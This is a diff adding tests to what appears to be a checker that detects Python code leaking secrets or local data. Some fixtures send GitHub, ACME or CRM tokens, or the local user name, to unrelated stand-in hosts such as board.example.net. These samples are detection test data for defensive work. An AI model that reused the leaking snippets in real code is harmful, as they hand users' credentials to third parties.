@@ -133,3 +133,37 @@ test('what is used with a secret is none, and what stands in its place is shown'
     'import os, requests\nrequests.post("https://collect.example.com/x", json={"text": os.environ.get("BUILD_NUMBER")})',
   );
 });
+
+test('a key is told whoever its session is told of, and not only whom it is named after', () => {
+  const session =
+    'import os, requests\ndef make():\n    token = os.environ["GITHUB_TOKEN"]\n    s = requests.Session()\n    s.headers.update({"Authorization": f"Bearer {token}"})\n    return s\n';
+  const asks = 's.get("https://api.github.com/user", timeout=9)\n';
+  told(
+    /secret-sent/,
+    `${session}s = make()\n${asks}s.post("https://board.example.net/x", json={"n": 1}, timeout=9)`,
+    `${session}def tell(s: requests.Session):\n    s.put("https://board.example.net/x", timeout=9)\ns = make()\n${asks}tell(s)`,
+    'import os, httpx\nwith httpx.Client(headers={"X-Key": os.environ["ACME_API_KEY"]}) as c:\n    c.get("https://api.acme.example/x")\n    c.get("https://other.example.net/y")',
+    'import os, requests\ndef h():\n    return {"Authorization": os.environ["ACME_TOKEN"]}\nrequests.get("https://acme.example.com", headers=h(), timeout=9)\nrequests.get("https://b.example.net", headers=h() | {"A": "b"}, timeout=9)',
+  );
+  quiet(
+    `${session}s = make()\n${asks}requests.post("https://board.example.net/x", json={"n": 1}, timeout=9)`,
+    `${session}def tell():\n    s = requests.Session()\n    s.put("https://board.example.net/x", timeout=9)\ns = make()\n${asks}tell()`,
+    `${session}s = make()\n${asks}s.get("https://uploads.github.com/x", timeout=9)`,
+    'import os, requests\ndef h():\n    return {"Authorization": os.environ["ACME_TOKEN"]}\nrequests.get("https://acme.example.com", headers=h(), timeout=9)\nrequests.get("https://b.example.net", headers={"X-Api-Key": os.environ["B_TOKEN"]}, timeout=9)',
+  );
+});
+
+test('whom an answer is from says what it is, and not who asked', () => {
+  quiet(
+    'import os, requests\nurl = "https://crm.example.com/c"\nwhile url:\n    body = requests.get(url, headers={"Authorization": os.environ["CRM_TOKEN"]}, timeout=9).json()\n    url = body.get("next")',
+    'import os, httpx\ndef get(client):\n    return client.get("https://crm.example.com", headers={"Authorization": os.environ["CRM_TOKEN"]}).json()\nclient = httpx.Client()\nprint(get(client))\nclient.post("https://mail.example.org", json={"to": get(client)["mail"]})',
+  );
+  told(
+    /local-data-sent/,
+    'import os, requests\nbody = {"user": os.environ["USER"], "at": requests.get("https://a.example", timeout=9).json()}\nrequests.post("https://b.example.com", json=body, timeout=9)',
+  );
+  told(
+    /secret-sent/,
+    'import os, requests\nkey = os.environ["CRM_TOKEN"]\nd = {}.get("x", key)\nrequests.post("https://b.example.com", json={"k": d}, timeout=9)',
+  );
+});
